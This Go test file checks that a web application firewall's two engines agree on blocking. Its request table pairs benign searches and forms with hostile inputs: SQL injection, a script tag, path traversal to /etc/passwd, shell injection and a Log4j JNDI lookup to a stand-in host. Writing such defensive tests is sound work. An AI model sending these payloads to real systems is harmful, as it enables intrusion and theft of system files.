package app_test

import (
	"context"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"haechi/internal/app"
)

// counter reads a counter of the status; 0 if it is not there.
func counter(t *testing.T, a *app.App, name string) uint64 {
	t.Helper()
	s, err := a.Control().Status(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range s.Counters {
		if c.Name == name {
			return c.Value
		}
	}
	return 0
}

// asked are requests, with the status that both engines must give.
type asked struct {
	name, method, target, kind, body string
	status                           int
}

func requests() []asked {
	form, json := "application/x-www-form-urlencoded", "application/json"
	return []asked{
		{"page", "GET", "/", "", "", 200},
		{"search", "GET", "/search?q=winter+coat&page=2&sort=price_asc", "", "", 200},
		{"Korean", "GET", "/search?q=%EA%B2%A8%EC%9A%B8+%EC%BD%94%ED%8A%B8", "", "", 200},
		{"apostrophe", "GET", "/search?q=O%27Brien", "", "", 200},
		{"prose", "POST", "/comment", form, "text=Please+select+a+color+from+the+list%2C+and+drop+me+a+line.", 200},
		{"form", "POST", "/login", form, "user=minsu&password=Correct1Horse&next=%2Faccount", 200},
		{"JSON", "POST", "/api", json, `{"order":"A-1027","items":[{"id":1,"name":"coat","price":20.5}]}`, 200},
		{"injection", "GET", "/search?q=1%27+OR+%271%27%3D%271--", "", "", 403},
		{"injection in a form", "POST", "/login", form, attack, 403},
		{"injection in JSON", "POST", "/api", json, `{"q":"1' union select password from users--"}`, 403},
		{"script", "GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "", 403},
		{"traversal", "GET", "/file?name=../../../../etc/passwd", "", "", 403},
		{"twice encoded", "GET", "/file?name=%252e%252e%252f%252e%252e%252fetc%252fpasswd", "", "", 403},
		{"shell", "POST", "/run", form, "a=%3Bcat+%2Fetc%2Fpasswd", 403},
		{"Log4j", "GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fa.example%2Fb%7D", "", "", 403},
		{"malformed JSON", "POST", "/api", json, `{"a":`, 403},
		{"unknown type", "POST", "/api", "application/x-unknown", "abc", 403},
	}
}

// send sends the request and returns the status, 0 if there was no answer.
func (q asked) send(t *testing.T, c *http.Client, base string) int {
	t.Helper()
	req, err := http.NewRequest(q.method, base+q.target, strings.NewReader(q.body))
	if err != nil {
		t.Error(err)
		return 0
	}
	req.Host = "shop.test"
	if q.kind != "" {
		req.Header.Set("Content-Type", q.kind)
	}
	req.Header.Set("Accept", "*/*")
	req.Header.Set("User-Agent", "Mozilla/5.0")
	res, err := c.Do(req)
	if err != nil {
		t.Error(err)
		return 0
	}
	defer res.Body.Close()
	_, _ = io.Copy(io.Discard, res.Body)
	return res.StatusCode
}

// TestEnginesAgree gives the same requests to a gateway with each engine; the fast one
// clears those without a hit, is found to agree with the oracle on every sample, and says
// which rules asked it.
func TestEnginesAgree(t *testing.T) {
	for _, engine := range []string{"fast", "oracle"} {
		t.Run(engine, func(t *testing.T) {
			r := newRig(t)
			r.write(t, "    limits: { mode: \"off\" }\n    waf: { mode: enforce, threshold: 5, sample: 1, engine: "+engine+" }\n")
			a, _ := r.start(t)
			c := on(t)
			for _, q := range requests() {
				if got := q.send(t, c, "http://"+r.web); got != q.status {
					t.Errorf("%s: status %d, want %d", q.name, got, q.status)
				}
			}
			cleared, escalated := counter(t, a, "waf_cleared"), counter(t, a, "waf_escalated")
			switch {
			case engine == "oracle" && cleared+escalated != 0:
				t.Errorf("%d cleared, %d escalated by an engine that is off", cleared, escalated)
			case engine == "fast" && (cleared < 5 || cleared+escalated != uint64(len(requests())) || counter(t, a, "waf_sampled") != cleared):
				t.Errorf("%d cleared, %d escalated of %d, %d sampled", cleared, escalated, len(requests()), counter(t, a, "waf_sampled"))
			case counter(t, a, "waf_differed") != 0:
				t.Errorf("the engines differ in %d", counter(t, a, "waf_differed"))
			}
		})
	}
}

// TestHopelessRules: a rule of one's own that may match any request leaves the fast engine
// nothing to clear. The status says so, and requests are judged all the same.
func TestHopelessRules(t *testing.T) {
	r := newRig(t)
	own := filepath.Join(filepath.Dir(r.config), "own.conf")
	if err := os.WriteFile(own, []byte("SecAction \"id:10001,phase:2,deny,log\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	r.write(t, "    limits: { mode: \"off\" }\n    waf: { mode: enforce, threshold: 5, rules: [own.conf] }\n")
	a, _ := r.start(t)
	s, err := a.Control().Status(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Degraded) != 1 || !strings.Contains(s.Degraded[0], "rule 10001") {
		t.Errorf("degraded: %q", s.Degraded)
	}
	c := on(t)
	if got := [2]int{post(c, "http://"+r.web, attack), post(c, "http://"+r.web, benign)}; got != [2]int{403, 403} {
		t.Errorf("status %v", got)
	}
	if n := counter(t, a, "waf_cleared"); n != 0 {
		t.Errorf("%d cleared", n)
	}
}
